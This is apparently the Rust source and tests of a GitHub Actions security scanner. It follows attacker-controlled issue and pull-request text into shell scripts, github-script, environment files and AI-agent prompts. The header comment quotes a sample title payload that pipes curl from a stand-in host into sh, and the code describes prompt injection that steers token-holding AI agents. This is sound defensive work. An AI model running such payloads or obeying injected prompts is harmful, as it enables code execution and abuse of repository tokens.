//! Expression injection: attacker-controlled text pasted into something that executes it.
//!
//! GitHub expands `${{ ... }}` before the shell (or the JavaScript of github-script, or an AI
//! agent's prompt) sees it, so a title like `"; curl evil | sh #` becomes code. Passing the same
//! value through an `env:` variable is safe: the shell reads a variable, not code. Taint also
//! travels: a step that writes attacker text to `$GITHUB_OUTPUT` makes its outputs tainted, a
//! job output built from them taints `needs.<job>.outputs`, and writing it to `$GITHUB_ENV` or
//! `$GITHUB_PATH` changes what every later step runs.

use std::collections::BTreeSet;

use super::expressions::{attacker_field, expressions, references};
use crate::import::tree::Node;
use crate::source::Location;

/// Actions that hand an input to an AI agent acting with the job's token: an injected prompt
/// steers the agent.
const AGENT_ACTIONS: [&str; 6] = [
    "anthropics/claude-code-action",
    "anthropics/claude-code-base-action",
    "openai/codex-action",
    "google-github-actions/run-gemini-cli",
    "actions/ai-inference",
    "warpdotdev/warp-agent-action",
];

/// Whether `actions/ai-inference` is given tools to act with: without them it sends the prompt
/// to a model and returns its answer, which acts on nothing (the answer is as untrusted as the
/// prompt). Its documentation names two ways to give tools: the GitHub MCP server
/// (`enable-github-mcp`), or Copilot CLI tools (`copilot-allow-tools`, denied by default).
fn inference_has_tools(with: Option<&Node>) -> bool {
    let set = |key: &str| {
        with.and_then(|w| w.get(key))
            .and_then(Node::scalar)
            .is_some_and(|v| {
                let v = v.trim();
                !v.is_empty() && v != "false" && v != "''"
            })
    };
    set("enable-github-mcp") || set("copilot-allow-tools")
}

/// Inputs that actions commonly execute as a script.
const EXEC_INPUTS: [&str; 5] = ["script", "run", "command", "commands", "shell-script"];

/// Actions whose outputs are the pull request's head branch (a name the author chose).
const HEAD_REF_ACTIONS: [&str; 2] = [
    "xt0rted/pull-request-comment-branch",
    "gotson/pull-request-comment-branch",
];

/// One attacker-controlled value reaching a sink.
#[derive(Clone, Debug)]
pub(super) struct Injection {
    pub(super) step: String,
    pub(super) location: Option<Location>,
    /// What executes it: `run`, `github-script`, `agent prompt (<action>)`, `$GITHUB_ENV`, ...
    pub(super) sink: String,
    /// The expression or variable that carries the text.
    pub(super) value: String,
    /// `high` for event text itself, `medium` for a value derived from it through outputs.
    pub(super) confidence: &'static str,
}

/// What a job's steps do with attacker-controlled text.
#[derive(Default, Debug)]
pub(super) struct JobTaint {
    pub(super) injections: Vec<Injection>,
    /// Job outputs (`needs.<job>.outputs.<name>`) that carry attacker text.
    pub(super) outputs: BTreeSet<String>,
}

/// Whether an expression carries attacker text, and how directly.
fn tainted(
    expr: &str,
    steps: &BTreeSet<String>,
    env: &BTreeSet<String>,
    needs: &BTreeSet<String>,
    inputs: &BTreeSet<String>,
) -> Option<&'static str> {
    let mut found = None;
    for r in references(expr) {
        if attacker_field(&r) {
            return Some("high");
        }
        if r.strip_prefix("inputs.")
            .is_some_and(|n| inputs.contains(n))
        {
            // An input of a local composite action its caller gave attacker text.
            found = Some("medium");
            continue;
        }
        let step = r.strip_prefix("steps.").and_then(|s| s.split('.').next());
        if let Some(rest) = r.strip_prefix("steps.")
            && let Some((id, name)) = rest.split_once(".outputs.")
            && steps.contains(&format!("={id}.{name}"))
        {
            // An output the step's script only ever sets to a constant.
            continue;
        }
        if found.is_none() && step.is_some_and(|id| steps.contains(&format!("?{id}"))) {
            // Outputs of an action that was given attacker text: what it outputs is a guess.
            found = Some("low");
        }
        let derived = step.is_some_and(|id| steps.contains(id))
            || r.strip_prefix("env.").is_some_and(|n| env.contains(n))
            || r.strip_prefix("needs.").is_some_and(|rest| {
                needs
                    .iter()
                    .any(|n| rest == n || rest.starts_with(&format!("{n}.")))
            });
        if derived {
            found = Some("medium");
        }
    }
    found
}

/// Whether a value can hold a line break: bodies, comments and commit messages can; titles
/// and branch names cannot. A derived value is not known, so it can (fail closed).
fn multiline(expr: &str) -> bool {
    references(expr).iter().any(|r| {
        !attacker_field(r)
            || r == "github.event"
            || r.contains("body")
            || r.contains("message")
            || r.contains("commits")
            || r.contains("head_commit")
            || r.contains("changes")
    })
}

fn env_names(
    node: Option<&Node>,
    out: &mut BTreeSet<String>,
    lines: &mut BTreeSet<String>,
    steps: &BTreeSet<String>,
    needs: &BTreeSet<String>,
    inputs: &BTreeSet<String>,
) {
    for e in node.map(Node::entries).unwrap_or_default() {
        let v = e.value.scalar().unwrap_or_default();
        let hits: Vec<&str> = expressions(&v)
            .into_iter()
            .filter(|x| tainted(x, steps, &BTreeSet::new(), needs, inputs).is_some())
            .collect();
        if !hits.is_empty() {
            out.insert(e.key.clone());
            if hits.iter().any(|x| multiline(x)) {
                lines.insert(e.key.clone());
            }
        }
    }
}

/// Whether a shell script reads one of the variables (`$NAME`, `${NAME}`, `%NAME%`, `$env:NAME`).
fn reads_var(run: &str, names: &BTreeSet<String>) -> Option<String> {
    names
        .iter()
        .find(|n| {
            run.contains(&format!("${n}"))
                || run.contains(&format!("${{{n}}}"))
                || run.contains(&format!("$env:{n}"))
                || run.contains(&format!("%{n}%"))
        })
        .cloned()
}

/// Follows attacker text through one job's steps. `needs` holds the tainted outputs of other
/// jobs, as `<job>.outputs.<name>`.
#[cfg(test)]
pub(super) fn analyse(
    workflow_env: Option<&Node>,
    job: &Node,
    needs: &BTreeSet<String>,
) -> JobTaint {
    analyse_with(workflow_env, job, needs, &[], &BTreeSet::new())
}

/// Whether a value expands event text an outsider writes.
pub(super) fn carries_event_text(value: &str) -> bool {
    expressions(value)
        .iter()
        .any(|x| references(x).iter().any(|r| attacker_field(r)))
}

/// [`analyse`], also inside the local composite actions given (`uses: ./dir`): their steps
/// run in the job, see the same `github` context, and read what the caller passes as
/// `inputs`. `inputs` names the inputs of a called workflow its callers fill with event text.
pub(super) fn analyse_with(
    workflow_env: Option<&Node>,
    job: &Node,
    needs: &BTreeSet<String>,
    actions: &[(String, Node)],
    inputs: &BTreeSet<String>,
) -> JobTaint {
    let mut out = JobTaint::default();
    let none = BTreeSet::new();
    let mut base_env = BTreeSet::new();
    let mut base_lines = BTreeSet::new();
    env_names(
        workflow_env,
        &mut base_env,
        &mut base_lines,
        &none,
        needs,
        inputs,
    );
    env_names(
        job.get("env"),
        &mut base_env,
        &mut base_lines,
        &none,
        needs,
        inputs,
    );
    let scope = Scope {
        env: &base_env,
        lines: &base_lines,
        needs,
        inputs,
        actions,
        depth: 0,
        caller: None,
    };
    let steps_tainted = steps_taint(job.get("steps"), &scope, &mut out.injections);
    out.outputs = tainted_outputs(job, &steps_tainted, needs);
    out
}

/// What the steps of a job, or of a composite action it uses, start from.
struct Scope<'a> {
    env: &'a BTreeSet<String>,
    lines: &'a BTreeSet<String>,
    needs: &'a BTreeSet<String>,
    /// Inputs of the composite action that carry attacker text.
    inputs: &'a BTreeSet<String>,
    actions: &'a [(String, Node)],
    depth: u8,
    /// The job's step that uses the composite action (named in its findings).
    caller: Option<&'a str>,
}

/// Follows attacker text through a list of steps; returns the ids of the steps whose outputs
/// carry it (`?id`: perhaps).
fn steps_taint(
    steps: Option<&Node>,
    scope: &Scope<'_>,
    found: &mut Vec<Injection>,
) -> BTreeSet<String> {
    let needs = scope.needs;
    let mut steps_tainted: BTreeSet<String> = BTreeSet::new();
    // Variables a step wrote to $GITHUB_ENV from attacker text, seen by every later step.
    let mut exported: BTreeSet<String> = BTreeSet::new();
    for (i, step) in steps
        .map(Node::items)
        .unwrap_or_default()
        .iter()
        .enumerate()
    {
        if step
            .get("if")
            .and_then(Node::scalar)
            .is_some_and(|c| super::expressions::never(&c))
        {
            continue;
        }
        let id = step.get("id").and_then(Node::scalar);
        let mut env = scope.env.clone();
        let mut lines = scope.lines.clone();
        env.extend(exported.iter().cloned());
        lines.extend(exported.iter().cloned());
        env_names(
            step.get("env"),
            &mut env,
            &mut lines,
            &steps_tainted,
            needs,
            scope.inputs,
        );
        let name = id.clone().unwrap_or_else(|| format!("steps[{i}]"));
        let step_name = match scope.caller {
            Some(c) => format!("{c} > {name}"),
            None => name,
        };
        let mut sinks = Sinks {
            step: step_name.clone(),
            location: step.loc,
            found: &mut *found,
        };
        let known = Known {
            steps: &steps_tainted,
            env: &env,
            lines: &lines,
            needs,
            inputs: scope.inputs,
        };
        let mut effect = StepEffect::default();
        if let Some(run) = step.get("run").and_then(Node::scalar) {
            effect.taints_outputs = run_sinks(&run, &known, &mut sinks, &mut exported);
        }
        if let Some(uses) = step.get("uses").and_then(Node::as_str) {
            let action = action_sinks(uses, step.get("with"), &known, &mut sinks);
            effect.taints_outputs |= action.taints_outputs;
            effect.guessed |= action.guessed;
            effect.constant = action.constant;
            if let Some(action) = local_action(uses, scope) {
                let given: BTreeSet<String> = step
                    .get("with")
                    .map(Node::entries)
                    .unwrap_or_default()
                    .iter()
                    .filter(|e| {
                        expressions(&e.value.scalar().unwrap_or_default())
                            .iter()
                            .any(|x| known.tainted(x).is_some())
                    })
                    .map(|e| e.key.clone())
                    .collect();
                let inner = Scope {
                    env: &env,
                    lines: &lines,
                    needs,
                    inputs: &given,
                    actions: scope.actions,
                    depth: scope.depth + 1,
                    caller: Some(&step_name),
                };
                let inner_tainted = steps_taint(
                    action.get("runs").and_then(|r| r.get("steps")),
                    &inner,
                    found,
                );
                // The action's outputs are built from its steps' outputs (or its inputs).
                let none = BTreeSet::new();
                let outputs_tainted = action
                    .get("outputs")
                    .map(Node::entries)
                    .unwrap_or_default()
                    .iter()
                    .any(|e| {
                        let v = e
                            .value
                            .get("value")
                            .and_then(Node::scalar)
                            .unwrap_or_default();
                        expressions(&v)
                            .iter()
                            .any(|x| tainted(x, &inner_tainted, &none, &none, &given).is_some())
                    });
                effect.taints_outputs |= outputs_tainted;
            }
        }
        if let Some(id) = id {
            if effect.taints_outputs {
                steps_tainted.insert(id.clone());
            } else if effect.guessed {
                steps_tainted.insert(format!("?{id}"));
            }
            for name in &effect.constant {
                steps_tainted.insert(format!("={id}.{name}"));
            }
        }
    }
    steps_tainted
}

/// The document of the local composite action a `uses: ./dir` names, when it was given (to a
/// small depth: actions using actions).
fn local_action<'a>(uses: &str, scope: &Scope<'a>) -> Option<&'a Node> {
    let wanted = uses.strip_prefix("./")?.trim_end_matches('/');
    if scope.depth >= 4 {
        return None;
    }
    scope
        .actions
        .iter()
        .find(|(dir, _)| dir == wanted || dir.ends_with(&format!("/{wanted}")))
        .map(|(_, doc)| doc)
}

/// What is known to carry attacker text when a step runs.
struct Known<'a> {
    /// Steps whose outputs carry it (`?id`: perhaps).
    steps: &'a BTreeSet<String>,
    /// Environment variables that carry it.
    env: &'a BTreeSet<String>,
    /// Those of them that can hold a line break.
    lines: &'a BTreeSet<String>,
    /// Outputs of other jobs that carry it.
    needs: &'a BTreeSet<String>,
    /// Inputs of the composite action being read that carry it.
    inputs: &'a BTreeSet<String>,
}

impl Known<'_> {
    fn tainted(&self, expr: &str) -> Option<&'static str> {
        tainted(expr, self.steps, self.env, self.needs, self.inputs)
    }
}

/// Where the injections of one step are collected.
struct Sinks<'a> {
    step: String,
    location: Option<Location>,
    found: &'a mut Vec<Injection>,
}

impl Sinks<'_> {
    fn hit(&mut self, sink: &str, value: &str, confidence: &'static str) {
        self.found.push(Injection {
            step: self.step.clone(),
            location: self.location,
            sink: sink.to_owned(),
            value: value.to_owned(),
            confidence,
        });
    }
}

/// Whether a step's outputs carry attacker text: known, or only guessed.
#[derive(Default)]
struct StepEffect {
    taints_outputs: bool,
    guessed: bool,
    /// Outputs a github-script sets only to constants, whatever else its outputs carry.
    constant: BTreeSet<String>,
}

/// Attacker text in a `run:` script: expanded into it, or written to `$GITHUB_ENV` (a line
/// break there starts a new variable of the attacker's choosing, LD_PRELOAD, BASH_ENV, ...) or
/// `$GITHUB_PATH` (which needs none). Returns whether it reaches the step's outputs.
fn run_sinks(
    run: &str,
    known: &Known<'_>,
    sinks: &mut Sinks<'_>,
    exported: &mut BTreeSet<String>,
) -> bool {
    let mut direct = false;
    for e in expressions(run) {
        if let Some(c) = known.tainted(e) {
            sinks.hit("run", &format!("${{{{ {e} }}}}"), c);
            direct = true;
        }
    }
    let via_var = reads_var(run, known.env);
    let via_lines = reads_var(run, known.lines);
    for (file, carrier) in [("GITHUB_ENV", &via_lines), ("GITHUB_PATH", &via_var)] {
        if run.contains(file)
            && let Some(v) = carrier
        {
            sinks.hit(&format!("${file}"), &format!("${v}"), "medium");
            if file == "GITHUB_ENV" {
                // What it exports is unknown by name; every later reader of the variables it
                // wrote is tainted, approximated by the variable's name.
                exported.insert(v.clone());
            }
        }
    }
    run.contains("GITHUB_OUTPUT") && (direct || via_var.is_some())
}

/// Attacker text in an action's inputs: a script github-script runs, an AI agent's prompt, an
/// input actions commonly execute. Whatever the action does with it, its outputs may carry it:
/// known when it executes it, a guess otherwise.
fn action_sinks(
    uses: &str,
    with: Option<&Node>,
    known: &Known<'_>,
    sinks: &mut Sinks<'_>,
) -> StepEffect {
    let slug = uses.split('@').next().unwrap_or(uses).to_ascii_lowercase();
    let agent = AGENT_ACTIONS.iter().any(|a| slug.starts_with(a))
        && (slug != "actions/ai-inference" || inference_has_tools(with));
    let mut effect = StepEffect::default();
    let mut given = false;
    for e in with.map(Node::entries).unwrap_or_default() {
        let v = e.value.scalar().unwrap_or_default();
        for x in expressions(&v) {
            let Some(c) = known.tainted(x) else {
                continue;
            };
            given = true;
            let value = format!("${{{{ {x} }}}}");
            let executes = EXEC_INPUTS.contains(&e.key.as_str());
            if slug == "actions/github-script" && e.key == "script" {
                sinks.hit("github-script", &value, c);
            } else if agent {
                sinks.hit(&format!("agent input `{}` of {slug}", e.key), &value, c);
            } else if executes {
                sinks.hit(&format!("input `{}` of {slug}", e.key), &value, c);
            }
            // A model's answer follows its prompt: whoever writes the prompt writes the answer.
            if slug == "actions/github-script" || executes || slug == "actions/ai-inference" {
                effect.taints_outputs = true;
            } else {
                effect.guessed = true;
            }
        }
    }
    if HEAD_REF_ACTIONS.iter().any(|a| slug == *a) {
        effect.taints_outputs = true;
    }
    if slug == "actions/github-script"
        && let Some(script) = with.and_then(|w| w.get("script")).and_then(Node::scalar)
    {
        if script_outputs_event_text(&script) {
            effect.taints_outputs = true;
        }
        // Attacker text pasted into the script writes its own `setOutput` calls.
        if !given {
            effect.constant = constant_outputs(&script);
        }
    }
    effect
}

/// The outputs a github-script only ever sets to a constant (`core.setOutput('ok', 'true')`,
/// or a choice between constants): reading the event does not put its text there. Nothing is
/// known when an output's name is computed or the script writes `$GITHUB_OUTPUT` itself.
fn constant_outputs(script: &str) -> BTreeSet<String> {
    let mut constant = BTreeSet::new();
    let mut varying = BTreeSet::new();
    if script.contains("GITHUB_OUTPUT") {
        return constant;
    }
    let mut rest = script;
    while let Some(at) = rest.find("setOutput(") {
        rest = &rest[at + "setOutput(".len()..];
        let args = call_arguments(rest);
        let [name, value] = args.as_slice() else {
            return BTreeSet::new();
        };
        let Some(name) = js_text(name) else {
            return BTreeSet::new();
        };
        if js_constant(value) {
            constant.insert(name);
        } else {
            varying.insert(name);
        }
    }
    constant.retain(|n| !varying.contains(n));
    constant
}

/// The top-level arguments of a JavaScript call whose text starts after its `(`.
fn call_arguments(text: &str) -> Vec<String> {
    let mut args = Vec::new();
    let mut cur = String::new();
    let mut depth = 0u32;
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in text.chars() {
        if let Some(q) = quote {
            cur.push(c);
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == q {
                quote = None;
            }
            continue;
        }
        match c {
            '\'' | '"' | '`' => {
                quote = Some(c);
                cur.push(c);
            }
            '(' | '[' | '{' => {
                depth += 1;
                cur.push(c);
            }
            ')' | ']' | '}' if depth == 0 => break,
            ')' | ']' | '}' => {
                depth -= 1;
                cur.push(c);
            }
            ',' if depth == 0 => args.push(std::mem::take(&mut cur).trim().to_owned()),
            _ => cur.push(c),
        }
    }
    args.push(cur.trim().to_owned());
    args.retain(|a| !a.is_empty());
    args
}

/// A JavaScript string literal's text (a template literal without substitutions).
fn js_text(lit: &str) -> Option<String> {
    let lit = lit.trim();
    let q = lit.chars().next()?;
    let inner = lit.strip_prefix(q)?.strip_suffix(q)?;
    let plain = matches!(q, '\'' | '"') || (q == '`' && !inner.contains("${"));
    (plain && !inner.contains(q) && !inner.contains('\\')).then(|| inner.to_owned())
}

/// A constant JavaScript value: a literal, or `cond ? a : b` choosing between literals.
fn js_constant(value: &str) -> bool {
    let literal = |t: &str| {
        let t = t.trim();
        js_text(t).is_some()
            || matches!(t, "true" | "false" | "null")
            || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit() || c == '.'))
    };
    literal(value)
        || value
            .split_once('?')
            .and_then(|(_, b)| b.split_once(':'))
            .is_some_and(|(a, b)| literal(a) && literal(b))
}

/// Whether a github-script returns or sets as output the event's title, body or head ref.
fn script_outputs_event_text(script: &str) -> bool {
    script.contains("context.payload")
        && (script.contains(".title") || script.contains(".body") || script.contains("head.ref"))
        && (script.contains("setOutput") || script.contains("return"))
}

/// The job's outputs built from tainted step outputs (or other jobs' tainted outputs).
fn tainted_outputs(
    job: &Node,
    steps: &BTreeSet<String>,
    needs: &BTreeSet<String>,
) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for e in job.get("outputs").map(Node::entries).unwrap_or_default() {
        let v = e.value.scalar().unwrap_or_default();
        if expressions(&v)
            .iter()
            .any(|x| tainted(x, steps, &BTreeSet::new(), needs, &BTreeSet::new()).is_some())
        {
            out.insert(format!("outputs.{}", e.key));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn job(yaml: &str) -> Result<Node, Box<dyn std::error::Error>> {
        let docs = crate::import::tree::parse(yaml).map_err(|e| format!("{e:?}"))?;
        docs.into_iter().next().ok_or_else(|| "empty".into())
    }

    fn set(names: &[&str]) -> BTreeSet<String> {
        names.iter().map(|n| (*n).to_owned()).collect()
    }

    #[test]
    fn a_multiline_value_in_github_env_is_an_injection_and_is_exported() {
        let (steps, needs) = (BTreeSet::new(), BTreeSet::new());
        let (env, lines) = (set(&["TITLE", "BODY"]), set(&["BODY"]));
        let known = Known {
            steps: &steps,
            env: &env,
            lines: &lines,
            needs: &needs,
            inputs: &needs,
        };
        let mut found = Vec::new();
        let mut exported = BTreeSet::new();
        let mut sinks = Sinks {
            step: "s".into(),
            location: None,
            found: &mut found,
        };
        let outputs = run_sinks(
            "echo \"T=$TITLE\" >> $GITHUB_ENV",
            &known,
            &mut sinks,
            &mut exported,
        );
        assert!(!outputs && found.is_empty() && exported.is_empty());
        let mut sinks = Sinks {
            step: "s".into(),
            location: None,
            found: &mut found,
        };
        let outputs = run_sinks(
            "echo \"B=$BODY\" >> $GITHUB_ENV; echo x=$BODY >> $GITHUB_OUTPUT",
            &known,
            &mut sinks,
            &mut exported,
        );
        assert!(outputs);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].sink, "$GITHUB_ENV");
        assert_eq!(exported, set(&["BODY"]));
    }

    #[test]
    fn action_inputs_are_sinks_by_what_the_action_does_with_them()
    -> Result<(), Box<dyn std::error::Error>> {
        let empty = BTreeSet::new();
        let known = Known {
            steps: &empty,
            env: &empty,
            lines: &empty,
            needs: &empty,
            inputs: &empty,
        };
        let title = "${{ github.event.issue.title }}";
        let mut found = Vec::new();
        let mut run =
            |uses: &str, with: &str| -> Result<(bool, bool), Box<dyn std::error::Error>> {
                let with = job(with)?;
                let mut sinks = Sinks {
                    step: "s".into(),
                    location: None,
                    found: &mut found,
                };
                let e = action_sinks(uses, Some(&with), &known, &mut sinks);
                Ok((e.taints_outputs, e.guessed))
            };
        assert_eq!(
            run("actions/github-script@v7", &format!("script: \"{title}\""))?,
            (true, false)
        );
        assert_eq!(
            run("some/action@v1", &format!("command: \"{title}\""))?,
            (true, false)
        );
        assert_eq!(
            run(
                "anthropics/claude-code-action@v1",
                &format!("prompt: \"{title}\"")
            )?,
            (false, true)
        );
        assert_eq!(
            run("some/action@v1", &format!("label: \"{title}\""))?,
            (false, true)
        );
        let sinks: Vec<&str> = found.iter().map(|i| i.sink.as_str()).collect();
        assert_eq!(
            sinks,
            [
                "github-script",
                "input `command` of some/action",
                "agent input `prompt` of anthropics/claude-code-action"
            ]
        );
        assert!(script_outputs_event_text(
            "return context.payload.pull_request.title"
        ));
        assert!(!script_outputs_event_text(
            "core.setOutput('n', context.payload.number)"
        ));
        Ok(())
    }

    #[test]
    fn a_model_without_tools_acts_on_nothing_but_its_answer_is_the_prompters()
    -> Result<(), Box<dyn std::error::Error>> {
        // home-assistant's language check: the issue text goes to a model with no tools; its
        // answer reaches a script only through `env:`.
        let plain = job(concat!(
            "steps:\n",
            "  - id: ai\n    uses: actions/ai-inference@v1.1.0\n    with: {prompt: 'Is this English? ${{ github.event.issue.body }}'}\n",
            "  - uses: actions/github-script@v7\n    env: {R: '${{ steps.ai.outputs.response }}'}\n    with: {script: 'JSON.parse(process.env.R)'}\n",
        ))?;
        assert!(
            analyse(None, &plain, &BTreeSet::new())
                .injections
                .is_empty()
        );
        // Its answer pasted into a script is the prompter's text.
        let pasted = job(concat!(
            "steps:\n",
            "  - id: ai\n    uses: actions/ai-inference@v1.1.0\n    with: {prompt: 'Is this English? ${{ github.event.issue.body }}'}\n",
            "  - run: echo '${{ steps.ai.outputs.response }}'\n",
        ))?;
        let t = analyse(None, &pasted, &BTreeSet::new());
        assert_eq!(t.injections.len(), 1, "{:?}", t.injections);
        assert_eq!(t.injections[0].sink, "run");
        // Given tools (the GitHub MCP server, or Copilot CLI tools), it is an agent.
        for tools in [
            "enable-github-mcp: true",
            "copilot-allow-tools: 'shell(git:*)'",
        ] {
            let agent = job(&format!(
                "steps:\n  - uses: actions/ai-inference@v2\n    with: {{prompt: 'Triage ${{{{ github.event.issue.body }}}}', {tools}}}\n"
            ))?;
            let t = analyse(None, &agent, &BTreeSet::new());
            assert_eq!(t.injections.len(), 1, "{tools}");
            assert_eq!(
                t.injections[0].sink,
                "agent input `prompt` of actions/ai-inference"
            );
        }
        Ok(())
    }

    #[test]
    fn a_script_reading_the_event_taints_only_the_outputs_it_does_not_set_to_constants()
    -> Result<(), Box<dyn std::error::Error>> {
        // langchain's issue-link check: the body is read, `has-link` is only ever 'true' or
        // 'false'; the step after pastes it into its own script.
        let script = "const body = context.payload.pull_request.body || '';\nif (!/#\\d+/.test(body)) { core.setOutput('has-link', 'false'); return; }\ncore.setOutput('has-link', 'true');\ncore.setOutput('assigned', ok ? 'true' : 'false');\ncore.setOutput('title', context.payload.pull_request.title);\n";
        let flow = |reads: &str| {
            job(&format!(
                "steps:\n  - id: check\n    uses: actions/github-script@v8\n    with:\n      script: |\n{}\n  - uses: actions/github-script@v8\n    with: {{script: \"const v = '${{{{ steps.check.outputs.{reads} }}}}'\"}}\n",
                script
                    .lines()
                    .map(|l| format!("        {l}"))
                    .collect::<Vec<_>>()
                    .join("\n")
            ))
        };
        for constant in ["has-link", "assigned"] {
            let t = analyse(None, &flow(constant)?, &BTreeSet::new());
            assert!(t.injections.is_empty(), "{constant}: {:?}", t.injections);
        }
        let t = analyse(None, &flow("title")?, &BTreeSet::new());
        assert_eq!(t.injections.len(), 1, "{:?}", t.injections);
        assert_eq!(
            constant_outputs("core.setOutput(name, 'x'); core.setOutput('a', 'b')"),
            BTreeSet::new()
        );
        assert_eq!(
            constant_outputs("core.setOutput('a', 'b'); core.setOutput('a', `${x}`)"),
            BTreeSet::new()
        );
        assert_eq!(
            constant_outputs("core.setOutput('a', `b`); core.setOutput('n', 3)"),
            set(&["a", "n"])
        );
        assert_eq!(
            constant_outputs(
                "fs.appendFileSync(process.env.GITHUB_OUTPUT, 'a=b'); core.setOutput('a', 'b')"
            ),
            BTreeSet::new()
        );
        Ok(())
    }

    #[test]
    fn job_outputs_built_from_tainted_steps_are_tainted() -> Result<(), Box<dyn std::error::Error>>
    {
        let j = job("outputs:\n  a: ${{ steps.x.outputs.v }}\n  b: ${{ steps.y.outputs.v }}\n")?;
        assert_eq!(
            tainted_outputs(&j, &set(&["x"]), &BTreeSet::new()),
            set(&["outputs.a"])
        );
        Ok(())
    }

    #[test]
    fn event_text_in_a_shell_is_injected_and_through_env_it_is_not()
    -> Result<(), Box<dyn std::error::Error>> {
        let bad = job("steps:\n  - run: echo \"${{ github.event.issue.title }}\"\n")?;
        let t = analyse(None, &bad, &BTreeSet::new());
        assert_eq!(t.injections.len(), 1);
        assert_eq!(t.injections[0].sink, "run");
        let good = job(
            "steps:\n  - run: echo \"$TITLE\"\n    env: {TITLE: '${{ github.event.issue.title }}'}\n",
        )?;
        assert!(analyse(None, &good, &BTreeSet::new()).injections.is_empty());
        Ok(())
    }

    #[test]
    fn taint_travels_through_outputs_env_files_and_agent_prompts()
    -> Result<(), Box<dyn std::error::Error>> {
        let flow = job(concat!(
            "outputs: {branch: '${{ steps.b.outputs.name }}'}\n",
            "steps:\n",
            "  - id: b\n    run: echo \"name=$REF\" >> $GITHUB_OUTPUT\n    env: {REF: '${{ github.head_ref }}'}\n",
            "  - run: echo ${{ steps.b.outputs.name }}\n",
            "  - run: echo \"X=$MSG\" >> $GITHUB_ENV\n    env: {MSG: '${{ github.event.head_commit.message }}'}\n",
            "  - run: echo \"T=$T\" >> $GITHUB_ENV\n    env: {T: '${{ github.event.issue.title }}'}\n",
            "  - uses: anthropics/claude-code-action@v1\n    with: {prompt: 'Triage ${{ github.event.issue.body }}'}\n",
        ))?;
        let t = analyse(None, &flow, &BTreeSet::new());
        let sinks: Vec<&str> = t.injections.iter().map(|i| i.sink.as_str()).collect();
        assert_eq!(
            sinks,
            vec![
                "run",
                "$GITHUB_ENV",
                "agent input `prompt` of anthropics/claude-code-action"
            ]
        );
        assert!(t.outputs.contains("outputs.branch"));
        let guess = job(concat!(
            "steps:\n",
            "  - id: find\n    uses: peter-evans/find-comment@v3\n    with: {body-includes: '${{ github.event.comment.body }}'}\n",
            "  - run: echo ${{ steps.find.outputs.comment-id }}\n",
        ))?;
        let g = analyse(None, &guess, &BTreeSet::new());
        assert_eq!(g.injections.len(), 1);
        assert_eq!(g.injections[0].confidence, "low");
        let downstream = job("steps:\n  - run: echo ${{ needs.a.outputs.branch }}\n")?;
        let needs: BTreeSet<String> = ["a.outputs.branch".to_owned()].into();
        assert_eq!(analyse(None, &downstream, &needs).injections.len(), 1);
        assert!(
            analyse(None, &downstream, &BTreeSet::new())
                .injections
                .is_empty()
        );
        Ok(())
    }
}
